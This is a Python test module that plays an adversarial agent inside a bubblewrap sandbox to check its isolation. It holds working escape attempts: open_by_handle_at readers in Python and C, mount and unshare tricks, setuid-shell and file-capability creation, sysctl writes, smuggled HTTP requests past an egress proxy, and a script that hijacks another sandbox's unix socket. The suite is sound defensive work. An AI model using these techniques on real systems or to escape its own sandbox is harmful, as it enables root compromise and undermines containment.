"""Attacks from inside the sandbox: privilege, kernel interfaces, processes and secrets.

Each attack works as an agent would: it writes a program or script with ``write_file`` and
runs it with ``execute_command``; the host side only sets the stage (a file bound nowhere, a
unix socket outside the root, a crashed earlier sandbox) and then checks that nothing outside
the root changed and no secret appeared.
"""

from __future__ import annotations

import contextlib
import ctypes
import logging
import os
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import anyio
import anyio.to_thread

from ._adversary import Arena, attack

__all__: list[str] = []


@attack(
    "bwrap_capabilities",
    finding="a command in the bwrap sandbox keeps root's capabilities",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_capabilities(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    out = await arena.sh("grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status")
    values = {line.split(":")[0]: line.split(":")[1].strip() for line in out.splitlines() if line.startswith("Cap")}
    for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb"):
        arena.record(values.get(name) == "0000000000000000", f"{name} is {values.get(name)!r} in: {out!r}")


# -- kernel interfaces --------------------------------------------------------------------------

_HANDLE_READER = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
handle_type, blob = sys.argv[1], bytes.fromhex(sys.argv[2])

class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]

fh = FileHandle(len(blob), int(handle_type))
ctypes.memmove(fh.f_handle, blob, len(blob))
mount_fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
fd = libc.open_by_handle_at(mount_fd, ctypes.byref(fh), os.O_RDONLY)
if fd < 0:
    print("refused", os.strerror(ctypes.get_errno()))
else:
    print("read:", os.read(fd, 200).decode(errors="replace"))
"""

# Opens a host directory by handle, then works relative to it: a file made there, its unix
# socket reached through /proc/self/fd (what a descriptor of a directory bound nowhere gives).
_HANDLE_DIRECTORY = r"""
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
handle_type, blob = sys.argv[1], bytes.fromhex(sys.argv[2])

class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]

fh = FileHandle(len(blob), int(handle_type))
ctypes.memmove(fh.f_handle, blob, len(blob))
mount_fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
fd = libc.open_by_handle_at(mount_fd, ctypes.byref(fh), os.O_RDONLY | os.O_DIRECTORY)
if fd < 0:
    print("refused", os.strerror(ctypes.get_errno()))
    sys.exit(0)
try:
    made = os.open("made-by-handle.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
    os.write(made, b"pwned")
    print("created a host file")
except OSError as exc:
    print("create refused", exc.errno)
try:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)
    s.connect("/proc/self/fd/%d/agent.sock" % fd)
    print("socket answered", s.recv(200).decode(errors="replace"))
except OSError as exc:
    print("socket refused", exc.errno)
"""

_HANDLE_READER_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct { unsigned int bytes; int type; unsigned char h[128]; } fh;
    size_t n = strlen(argv[2]) / 2;
    fh.bytes = n; fh.type = atoi(argv[1]);
    for (size_t i = 0; i < n; i++) sscanf(argv[2] + 2 * i, "%2hhx", &fh.h[i]);
    int mount_fd = open(".", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mount_fd, (struct file_handle *)&fh, O_RDONLY);
    if (fd < 0) { printf("refused %s\n", strerror(errno)); return 0; }
    char buf[200] = {0};
    read(fd, buf, sizeof buf - 1);
    printf("read: %s\n", buf);
    return 0;
}
"""


def _file_handle(path: Path) -> tuple[int, bytes] | None:
    """``name_to_handle_at`` of a host file, as the host sees it (what an attacker would
    guess by brute force): ``(handle type, handle bytes)``, or None where unsupported."""
    libc = ctypes.CDLL(None, use_errno=True)

    class FileHandle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]

    fh = FileHandle(128, 0)
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, os.fsencode(path), ctypes.byref(fh), ctypes.byref(mount_id), 0) != 0:
        return None
    return fh.handle_type, bytes(fh.f_handle[: fh.handle_bytes])


@attack(
    "bwrap_open_by_handle",
    finding="open_by_handle_at from the sandbox reads a host file bound nowhere (Python and C)",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_open_by_handle(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    handle = _file_handle(arena.host / "secret.txt")
    if handle is None:
        # The filesystem has no handles: the call cannot work anywhere on it.
        arena.record(True)
        return
    kind, blob = handle
    await arena.tool("write_file", path="handle.py", content=_HANDLE_READER)
    out = await arena.sh(f"{sys.executable} handle.py {kind} {blob.hex()}")
    arena.check_secret(out, "open_by_handle_at through ctypes")
    arena.record("refused" in out, f"open_by_handle_at was not refused: {out[:200]!r}")
    if shutil.which("gcc") is not None:
        await arena.tool("write_file", path="handle.c", content=_HANDLE_READER_C)
        out = await arena.sh(f"gcc -o handle handle.c && ./handle {kind} {blob.hex()}")
        arena.check_secret(out, "open_by_handle_at from C")
    arena.check_outside("open_by_handle_at")


@attack(
    "bwrap_remount_read_only_path",
    finding="mount -o remount,bind,rw makes a read-only path writable",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_remount_read_only_path(arena: Arena) -> None:
    tree = arena.host / "tree"
    await arena.open(isolation="bwrap", native_sandbox={"read_only_paths": [str(tree)]})
    for command in (
        f"mount -o remount,bind,rw {tree}",
        f"mount -o remount,rw {tree}",
        f"mount --bind {arena.root} {tree}",
        f"umount {tree}",
        f"mount -t tmpfs none {tree}",
    ):
        out = await arena.sh(f"{command}; echo pwned > {tree}/a.txt; echo pwned > {tree}/new.txt; cat {tree}/a.txt")
        arena.record("pwned" not in out, f"{command} made {tree} writable: {out[:200]!r}")
        arena.check_outside(command)


@attack(
    "bwrap_device_nodes",
    finding="mknod makes a device node (a /dev/zero that read_file then reads forever)",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_device_nodes(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    for name, spec in (("zero", "c 1 5"), ("mem", "c 1 1"), ("disk", "b 8 0"), ("kmsg", "c 1 11")):
        out = await arena.sh(f"mknod {name} {spec} && echo made")
        made = (arena.root / name).is_char_device() or (arena.root / name).is_block_device()
        arena.record("made" not in out and not made, f"mknod {name} {spec} worked: {out[:200]!r}")
    # Also from a program, past the shell's own mknod.
    script = "import os, stat\ntry:\n    os.mknod('pynode', stat.S_IFCHR | 0o666, os.makedev(1, 5))\n    print('made')\nexcept OSError as exc:\n    print('refused', exc.errno)\n"
    await arena.tool("write_file", path="node.py", content=script)
    out = await arena.sh(f"{sys.executable} node.py")
    arena.record("made" not in out, f"os.mknod made a device: {out[:200]!r}")
    arena.check_outside("mknod")


_NAMESPACES = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, flag in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000), ("pid", 0x20000000)):
    pid = os.fork()
    if pid == 0:
        ok = libc.unshare(flag) == 0
        os._exit(0 if ok else 1)
    made = os.waitpid(pid, 0)[1] == 0
    print(name, "made" if made else "refused")
"""


@attack(
    "bwrap_nested_namespaces",
    finding="unshare -U/-m or a nested user namespace gives the sandbox root again",
    severity="high",
    requires=("bwrap",),
)
async def bwrap_nested_namespaces(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    for command in ("unshare -U true", "unshare -m true", "unshare -r id -u", "unshare -Urm sh -c 'mount -t tmpfs none /tmp'"):
        out = await arena.sh(f"{command} && echo made")
        arena.record("made" not in out.split(), f"{command} worked: {out[:200]!r}")
    await arena.tool("write_file", path="ns.py", content=_NAMESPACES)
    out = await arena.sh(f"{sys.executable} ns.py")
    for line in out.splitlines():
        if line.endswith(("made", "refused")):
            arena.record(line.endswith("refused"), f"unshare from a program: {line}")


# -- the host's root, by uid alone ---------------------------------------------------------------

# Sysctls whose value written back unchanged changes nothing: a write that gets through proves
# the hole without touching the host (never core_pattern, which is what an attacker would use).
_SYSCTLS = ("fs/lease-break-time", "kernel/printk_ratelimit", "vm/swappiness")


@attack(
    "bwrap_sysctl_write",
    finding="a command writes a global sysctl (the sandbox's user is the host's root: core_pattern runs a program as root)",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_sysctl_write(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    for name in _SYSCTLS:
        path = f"/proc/sys/{name}"
        if not _exists(path):
            continue
        before = _read_text(path)
        # Its own value, read inside and written back: nothing changes even when it works.
        out = await arena.sh(f'v=$(cat {path}) && printf "%s\\n" "$v" > {path} && echo WROTE {name}')
        arena.record(f"WROTE {name}" not in out, f"{path} was written from the sandbox: {out[:200]!r}")
        arena.record(_read_text(path) == before, f"{path} changed on the host: {before!r} -> {_read_text(path)!r}")
    # The same from a program, through its own descriptor (no shell redirection).
    script = (
        "import sys\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n"
        "        with open(path, 'r+') as f:\n"
        "            value = f.read()\n"
        "            f.seek(0)\n"
        "            f.write(value)\n"
        "        print('WROTE', path)\n"
        "    except OSError as exc:\n"
        "        print('refused', path, exc.errno)\n"
    )
    await arena.tool("write_file", path="sysctl.py", content=script)
    paths = [f"/proc/sys/{name}" for name in _SYSCTLS if _exists(f"/proc/sys/{name}")]
    out = await arena.sh(f"{sys.executable} sysctl.py {' '.join(paths)}")
    for path in paths:
        arena.record(f"WROTE {path}" not in out, f"{path} was written by a program in the sandbox: {out[:200]!r}")


@attack(
    "bwrap_whole_host_bound",
    finding="a sandbox given / (writable, read-only, or as its working directory) reaches the host's /proc, /sys and /dev",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_whole_host_bound(arena: Arena) -> None:
    for options in ({"read_write_paths": ["/"]}, {"read_only_paths": ["/"]}):
        await arena.open(isolation="bwrap", native_sandbox=options)
        await _through_the_whole_host(arena, str(options))
    from ..sandbox import LocalSandbox

    await arena.open(sandbox=LocalSandbox(working_directory="/", isolation="bwrap"))
    await _through_the_whole_host(arena, "working_directory='/'")
    await arena.close()


async def _through_the_whole_host(arena: Arena, how: str) -> None:
    for name in _SYSCTLS:
        path = f"/proc/sys/{name}"
        if not _exists(path):
            continue
        before = _read_text(path)
        # Its own value written back: nothing changes even when it works.
        out = await arena.sh(f'v=$(cat {path}) && printf "%s\\n" "$v" > {path} && echo WROTE {name}')
        arena.record(f"WROTE {name}" not in out, f"{how}: {path} was written: {out[:200]!r}")
        arena.record(_read_text(path) == before, f"{how}: {path} changed on the host")
    out = await arena.sh(
        "test -w /proc/sys/kernel/core_pattern && echo CORE-PATTERN-WRITABLE; echo sys $(ls -A /sys | wc -l); "
        "chmod 666 /dev/null && echo CHMOD-NULL; stat -c %F /dev/null"
    )
    arena.record("CORE-PATTERN-WRITABLE" not in out, f"{how}: kernel.core_pattern is writable: {out[:200]!r}")
    arena.record("sys 0" in out, f"{how}: the host's /sys is visible: {out[:200]!r}")
    arena.record("CHMOD-NULL" not in out, f"{how}: /dev/null could be chmod-ed: {out[:200]!r}")


def _read_text(path: str) -> str:
    try:
        with open(path) as f:
            return f.read()
    except OSError as exc:
        return f"unreadable: {exc.errno}"


def _root_only_proc_files() -> list[str]:
    """The top-level files of the host's /proc only root may read."""
    found = []
    for name in sorted(os.listdir("/proc")):
        path = f"/proc/{name}"
        with contextlib.suppress(OSError):
            info = os.lstat(path)
            if not name.isdigit() and stat.S_ISREG(info.st_mode) and info.st_uid == 0 and not info.st_mode & 0o044:
                found.append(path)
    return found


_DEVICE_NODES = ("/dev/null", "/dev/zero", "/dev/urandom", "/dev/tty")


@attack(
    "bwrap_host_root_ownership",
    finding="the sandbox's user owns the host's /dev nodes and /proc entries (chmod 0 /dev/null for the host) and reads root-only /proc files",
    severity="high",
    requires=("bwrap",),
)
async def bwrap_host_root_ownership(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    # A chmod to the mode a node already has: harmless if it works, but then the sandbox owns
    # the host's node and could as well make it 0 (every program of the host needs /dev/null).
    for node in _DEVICE_NODES:
        if not _exists(node):
            continue
        before = os.stat(node)
        out = await arena.sh(f"chmod {stat.S_IMODE(before.st_mode):o} {node} && echo CHANGED {node}; echo x > {node} && echo usable")
        arena.record(
            f"CHANGED {node}" not in out and os.stat(node).st_mode == before.st_mode,
            f"chmod of {node} worked in the sandbox: {out[:200]!r}",
        )
        if node != "/dev/tty":  # no terminal in the sandbox's session
            arena.record("usable" in out, f"{node} cannot be written in the sandbox: {out[:200]!r}")
    # A global /proc entry, chmod to its own mode: the entry's mode is the kernel's, for
    # every procfs on the machine.
    for entry in ("/proc/meminfo", "/proc/loadavg"):
        mode = stat.S_IMODE(os.stat(entry).st_mode)
        out = await arena.sh(f"chmod {mode:o} {entry} && echo CHANGED {entry}")
        arena.record(f"CHANGED {entry}" not in out, f"chmod of {entry} worked in the sandbox: {out[:200]!r}")
    # What only root may read on the host, the sandbox may not either.
    for path in _root_only_proc_files():
        out = await arena.sh(f"head -c 64 {path} >/dev/null 2>&1 && echo READ {path}")
        arena.record(f"READ {path}" not in out, f"{path} (root only on the host) read in the sandbox")


_SETID_PROGRAM = r"""
import ctypes, os, platform, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() in ("x86_64", "AMD64")
def attempt(label, fn):
    try:
        fn()
        print("done", label)
    except OSError as exc:
        print("refused", label, exc.errno)
def syscall(number, *args):
    ctypes.set_errno(0)
    res = libc.syscall(ctypes.c_long(number), *[a if isinstance(a, bytes) else ctypes.c_long(a) for a in args])
    if res < 0:
        raise OSError(ctypes.get_errno(), "syscall %d" % number)
    return res
def create(name, mode):
    os.close(os.open(name, os.O_WRONLY | os.O_CREAT, mode))
def chmod_after(name, mode):
    create(name, 0o755)
    os.chmod(name, mode)
def fchmod_after(name, mode):
    fd = os.open(name, os.O_WRONLY | os.O_CREAT, 0o755)
    try:
        os.fchmod(fd, mode)
    finally:
        os.close(fd)
def tmpfile_linked(name, mode):
    fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, mode)
    try:
        os.link("/proc/self/fd/%d" % fd, name)
    finally:
        os.close(fd)
def openat2(name, mode):
    how = struct.pack("QQQ", os.O_WRONLY | os.O_CREAT, mode, 0)
    os.close(syscall(437, -100, name.encode(), how, len(how)))
def fchmodat2(name, mode):
    create(name, 0o755)
    syscall(452, -100, name.encode(), mode, 0)
def creat(name, mode):
    os.close(syscall(85, name.encode(), mode))
def mknod(name, mode):
    os.mknod(name, 0o100000 | mode)
cases = [("open", create), ("chmod", chmod_after), ("fchmod", fchmod_after), ("otmpfile", tmpfile_linked),
         ("openat2", openat2), ("fchmodat2", fchmodat2), ("mknod", mknod)]
if x86:
    cases.append(("creat", creat))
for label, fn in cases:
    for mode in (0o4755, 0o2755, 0o6755):
        attempt("%s-%o" % (label, mode), lambda: fn("%s-%o" % (label, mode), mode))
# A file capability is the same privilege by other means.
def capability():
    create("capped", 0o755)
    # vfs_cap_data revision 2, effective: CAP_SETUID (bit 7) permitted.
    os.setxattr("capped", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))
attempt("capability", capability)
"""


@attack(
    "bwrap_setuid_files",
    finding="a command makes a set-user-ID (or set-group-ID) file that the host sees as root's (any local user becomes root)",
    severity="high",
    requires=("bwrap",),
)
async def bwrap_setuid_files(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    for command in (
        "cp /bin/sh rootsh && chmod 4755 rootsh",
        "cp /bin/sh rootsh2 && chmod u+s rootsh2",
        "cp /bin/sh groupsh && chmod 2755 groupsh",
        "cp /bin/sh bothsh && chmod 6755 bothsh",
        "install -m 4755 /bin/sh installed",
        "install -m 2755 /bin/sh installed2",
        "mkdir setgid-dir && chmod 2775 setgid-dir",
        "cp /bin/sh copied && chmod 755 copied && chmod 04755 copied",
        "tar -cf setid.tar --mode=4755 copied 2>/dev/null; mkdir untar && tar -xpf setid.tar -C untar",
    ):
        before = set(_setid_files(arena.root))
        await arena.sh(command)
        made = sorted(set(_setid_files(arena.root)) - before)
        arena.record(not made, f"{command}: {made[:5]}")
    await arena.tool("write_file", path="setid.py", content=_SETID_PROGRAM)
    before = set(_setid_files(arena.root))
    out = await arena.sh(f"{sys.executable} setid.py")
    made = sorted(set(_setid_files(arena.root)) - before)
    arena.record(not made, f"made by system calls: {made[:8]} ({out[:300]!r})")
    # And none at all, whatever made it.
    found = _setid_files(arena.root)
    arena.record(not found, f"set-ID files under the root: {found[:8]}")
    capped = arena.root / "capped"
    with contextlib.suppress(OSError):
        arena.record(
            "security.capability" not in os.listxattr(capped, follow_symlinks=False),
            f"a file capability was set from the sandbox: {out[-200:]!r}",
        )
    # The sticky bit and ordinary modes still work.
    out = await arena.sh("mkdir sticky && chmod 1777 sticky && touch plain && chmod 0755 plain && echo modes-ok")
    arena.record("modes-ok" in out, f"ordinary modes refused: {out[:200]!r}")


def _setid_files(root: Path) -> list[str]:
    """Everything below ``root`` with S_ISUID or S_ISGID, as the host sees it (lstat)."""
    found = []
    for top, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(top, name)
            with contextlib.suppress(OSError):
                info = os.lstat(path)
                if not stat.S_ISLNK(info.st_mode) and info.st_mode & (stat.S_ISUID | stat.S_ISGID):
                    found.append(f"{os.path.relpath(path, root)} {stat.filemode(info.st_mode)} uid {info.st_uid}")
    return found


# -- the egress proxy ----------------------------------------------------------------------------


class _VirtualHosts:
    """A sloppy HTTP server on the host's loopback, the kind an allow-list must not trust: it
    answers every request on a connection (also after ``Connection: close``), ends header
    lines at a bare LF too, and records the ``(path, Host)`` of each request it served."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port: int = self.server.getsockname()[1]
        self.seen: list[tuple[str, str]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: socket.socket) -> None:
        buffer = b""
        conn.settimeout(10)
        with conn, contextlib.suppress(OSError):
            while True:
                while b"\n\n" not in buffer.replace(b"\r\n", b"\n"):
                    data = conn.recv(65536)
                    if not data:
                        return
                    buffer += data
                normal = buffer.replace(b"\r\n", b"\n")
                head, _, buffer = normal.partition(b"\n\n")
                lines = head.decode("latin-1").split("\n")
                headers = [line.partition(":") for line in lines[1:]]
                host = next((value.strip() for name, _, value in headers if name.strip().lower() == "host"), "")
                length = next((int(value) for name, _, value in headers if name.strip().lower() == "content-length" and value.strip().isdigit()), 0)
                chunked = any(name.strip().lower() == "transfer-encoding" for name, _, _ in headers)
                if chunked:
                    end = buffer.find(b"0\n\n")
                    buffer = buffer[end + 3 :] if end >= 0 else b""
                else:
                    buffer = buffer[length:]
                path = lines[0].split(" ")[1] if lines[0].count(" ") >= 2 else lines[0]
                self.seen.append((path, host))
                body = f"vhost {host} served {path}\n".encode()
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.server.close()


_RAW_CLIENT = r"""
import socket, sys
request = bytes.fromhex(sys.argv[1])
s = socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=10)
s.sendall(request)
s.shutdown(socket.SHUT_WR)
answer = b""
try:
    while True:
        data = s.recv(65536)
        if not data:
            break
        answer += data
except OSError:
    pass
print(answer.decode("latin-1"))
"""


@attack(
    "egress_virtual_host",
    finding="through the egress proxy a command names another virtual host of an allowed address (Host header, a pipelined or smuggled request)",
    severity="low",
    requires=("bwrap",),
)
async def egress_virtual_host(arena: Arena) -> None:
    from ..sandbox import PROXY_PORT

    server = _VirtualHosts()
    allowed = f"localhost:{server.port}"
    evil = "internal-admin.corp"
    requests = [
        # The Host header names the other site.
        ("/host", f"GET http://{allowed}/host HTTP/1.1\r\nHost: {evil}\r\n\r\n"),
        # A second request pipelined after the first, on the same connection.
        ("/first", f"GET http://{allowed}/first HTTP/1.1\r\nHost: {allowed}\r\n\r\nGET /admin HTTP/1.1\r\nHost: {evil}\r\n\r\n"),
        # Hidden in a body the proxy forwards.
        ("/body", f"POST http://{allowed}/body HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 2\r\n\r\nokGET /admin2 HTTP/1.1\r\nHost: {evil}\r\n\r\n"),
        ("/chunked", f"POST http://{allowed}/chunked HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\nGET /admin3 HTTP/1.1\r\nHost: {evil}\r\n\r\n"),
        # Both framings: the upstream and the proxy may pick different ones.
        ("/both", f"POST http://{allowed}/both HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin4 HTTP/1.1\r\nHost: {evil}\r\n\r\n"),
        # A bare LF inside a header line: a lenient server reads a second header there.
        ("/lf", f"GET http://{allowed}/lf HTTP/1.1\r\nX-Note: a\nHost: {evil}\r\nHost: {allowed}\r\n\r\n"),
        # A folded line (obs-fold) carrying a Host.
        ("/fold", f"GET http://{allowed}/fold HTTP/1.1\r\nX-Note: a\r\n Host: {evil}\r\n\r\n"),
    ]
    try:
        await arena.open(isolation="bwrap", native_sandbox={"allowed_hosts": [allowed]})
        await arena.tool("write_file", path="raw.py", content=_RAW_CLIENT)
        for path, request in requests:
            before = len(server.seen)
            out = await arena.sh(f"{sys.executable} raw.py {request.encode('latin-1').hex()} {PROXY_PORT}")
            seen = server.seen[before:]
            # Served at most the request that was checked, under the name that was checked.
            arena.record(
                all(entry == (path, allowed) for entry in seen) and len(seen) <= 1,
                f"{path}: the upstream served {seen} ({out[:160]!r})",
            )
            arena.record(f"vhost {evil}" not in out, f"{path}: {evil} answered: {out[:200]!r}")
        # The plain request still works.
        plain = f"GET http://{allowed}/ok HTTP/1.1\r\n\r\n".encode().hex()
        out = await arena.sh(f"{sys.executable} raw.py {plain} {PROXY_PORT}")
        arena.record(f"vhost {allowed} served /ok" in out, f"an ordinary request failed: {out[:200]!r}")
    finally:
        await arena.close()
        server.close()


# -- other sandboxes' state ---------------------------------------------------------------------

# Run in the attacker's sandbox, which may write the temporary directory: change the victim's
# device nodes (its own commands can tell where they come from) every way there is, then find
# every unix socket with the victim's name in its path, use it (another sandbox's allow-list)
# and take it over (answer the victim's requests); say what it did in report.txt.
_OTHERS_STATE = r"""
import os, socket, stat, sys, threading, time
stop, victim, target, nodes = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
out = []
def attempt(label, fn):
    try:
        fn()
        out.append("done " + label)
    except OSError as exc:
        out.append("refused %s %s" % (label, exc.errno))
def fifo(node):
    os.unlink(node)
    os.mkfifo(node)
def swap(directory):
    os.rename(directory, directory + ".moved")
    os.makedirs(os.path.dirname(nodes[0]), exist_ok=True)
    for node in nodes:
        os.mkfifo(node)
for node in nodes:
    attempt("fifo " + node, lambda: fifo(node))
    attempt("chmod " + node, lambda: os.chmod(node, 0))
directory = os.path.dirname(nodes[0]) if nodes else stop
while directory != stop and len(directory) > len(stop):
    attempt("move " + directory, lambda: swap(directory))
    directory = os.path.dirname(directory)
found = []
for directory, subdirectories, files in os.walk(stop):
    if directory.count("/") - stop.count("/") >= 4:
        subdirectories[:] = []
    for entry in subdirectories + files:
        path = os.path.join(directory, entry)
        try:
            if victim in path and stat.S_ISSOCK(os.lstat(path).st_mode):
                found.append(path)
        except OSError:
            pass
out.append("sockets %d" % len(found))
servers = []
for path in found:
    try:
        probe = socket.socket(socket.AF_UNIX)
        probe.settimeout(3)
        probe.connect(path)
        probe.sendall(("CONNECT %s HTTP/1.1\r\n\r\n" % target).encode())
        out.append("done use %s %r" % (path, probe.recv(40)))
    except OSError as exc:
        out.append("refused use %s %s" % (path, exc.errno))
    try:
        os.unlink(path)
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        server.listen(8)
        servers.append(server)
        out.append("done take-over " + path)
    except OSError as exc:
        out.append("refused take-over %s %s" % (path, exc.errno))
def serve(server):
    while True:
        conn, _ = server.accept()
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nhijacked\n")
        conn.close()
for server in servers:
    threading.Thread(target=serve, args=(server,), daemon=True).start()
with open("report.txt.part", "w") as f:
    f.write("\n".join(out) + "\n")
os.replace("report.txt.part", "report.txt")
time.sleep(120)
"""

@attack(
    "bwrap_other_sandboxes_state",
    finding="a sandbox that may write the temporary directory changes another sandbox's /dev/null or takes over its egress proxy",
    severity="medium",
    requires=("bwrap",),
)
async def bwrap_other_sandboxes_state(arena: Arena) -> None:
    from ..sandbox import PROXY_PORT, LocalSandbox

    temporary = tempfile.gettempdir()
    server = _VirtualHosts()
    allowed = f"localhost:{server.port}"
    home = _victim_home()
    victim = LocalSandbox(
        id=f"victim-{secrets.token_hex(6)}", working_directory=str(home), isolation="bwrap",
        native_sandbox={"allowed_hosts": [allowed]},
    )  # fmt: skip
    nodes: list[str] = []
    try:
        # Where the victim's device nodes come from, as its own commands can tell (the root of
        # each bind in its mount table): what a colluding victim would tell the attacker.
        table = await victim.execute_command("cat /proc/self/mountinfo")
        roots = {fields[4]: fields[3] for fields in (line.split() for line in table.stdout.splitlines()) if len(fields) > 4}
        nodes = [roots[f"/dev/{name}"] for name in ("null", "zero") if roots.get(f"/dev/{name}", "").startswith(temporary)]
        await arena.open(isolation="bwrap", native_sandbox={"read_write_paths": [temporary]})
        await arena.tool("write_file", path="others.py", content=_OTHERS_STATE)
        report = arena.root / "report.txt"
        await arena.sh(f"{sys.executable} others.py {temporary} {victim.id} {allowed} {' '.join(nodes)}", background=True)
        for _ in range(600):
            if await anyio.to_thread.run_sync(report.exists):
                break
            await anyio.sleep(0.05)
        done = report.read_text() if report.exists() else "no report\n"
        arena.record("no report" not in done, "the attacker's program did not run")
        for line in done.splitlines():
            arena.record(not line.startswith("done "), line)
        arena.record("sockets 0" in done, f"found sockets of the victim: {done[:300]!r}")
        # The victim's next commands: its own /dev/null (a FIFO there would hang this one),
        # and its own proxy.
        null = await victim.execute_command("echo x > /dev/null && stat -c %F /dev/null", timeout=20_000)
        arena.record(
            (null.exit_code, null.stdout) == (0, "character special file\n"), f"the victim's /dev/null: {null}"
        )
        request = f"GET http://{allowed}/victim HTTP/1.1\r\n\r\n".encode().hex()
        fetched = await victim.execute_command(f"{sys.executable} client.py {request} {PROXY_PORT}", timeout=30_000)
        arena.record("served /victim" in fetched.stdout, f"the victim's request went elsewhere: {fetched}")
    finally:
        await arena.close()
        await victim.destroy()
        server.close()
        _remove_victim(home, nodes, temporary)


def _victim_home() -> Path:
    """The victim sandbox's working directory, outside the arena (whose base is watched)."""
    home = Path(tempfile.mkdtemp(prefix="agentvfs-arena-victim-"))
    (home / "client.py").write_text(_RAW_CLIENT)
    home.chmod(0o755)
    return home


def _remove_victim(home: Path, nodes: list[str], temporary: str) -> None:
    """Remove the victim's directory and whatever an attack that got through moved aside."""
    shutil.rmtree(home, ignore_errors=True)
    for node in nodes:
        directory = os.path.dirname(node)
        while directory != temporary and len(directory) > len(temporary):
            if os.path.lexists(directory + ".moved"):
                shutil.rmtree(directory + ".moved", ignore_errors=True)
            directory = os.path.dirname(directory)


# -- the host's files and sockets ---------------------------------------------------------------


@attack(
    "bwrap_host_file_outside_binds",
    finding="a command creates or changes a host file outside every bind",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_host_file_outside_binds(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    host = arena.host
    for command in (
        f"echo pwned > {host}/new.txt",
        f"echo pwned >> {host}/secret.txt",
        f"mkdir {host}/made",
        f"ln -s /etc {host}/link",
        f"touch {arena.base}/beside-root",
        "touch /agentvfs-pwned; touch /etc/agentvfs-pwned; touch /usr/agentvfs-pwned",
        f"cd /proc/1/root && echo pwned > .{host}/new.txt",
        f"echo pwned > /proc/self/root{host}/new.txt",
    ):
        out = await arena.sh(command)
        arena.check_outside(command)
        arena.check_secret(out, command)
    for path in ("/agentvfs-pwned", "/etc/agentvfs-pwned", "/usr/agentvfs-pwned"):
        arena.record(not _exists(path), f"{path} was created on the host")
        with contextlib.suppress(OSError):
            os.unlink(path)
    # The directory by handle (no bind covers it), then a file made relative to it.
    handle = _file_handle(host)
    if handle is not None:
        await arena.tool("write_file", path="handle_dir.py", content=_HANDLE_DIRECTORY)
        out = await arena.sh(f"{sys.executable} handle_dir.py {handle[0]} {handle[1].hex()}")
        arena.record("created a host file" not in out, f"made a file through a handle: {out[:200]!r}")
        arena.check_outside("a file made through a directory handle")


@contextlib.contextmanager
def _host_socket(path: Path, answer: bytes) -> Iterator[None]:
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    os.chmod(path, 0o777)
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn, contextlib.suppress(OSError):
                conn.sendall(answer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()
        server.close()
        with contextlib.suppress(OSError):
            os.unlink(path)

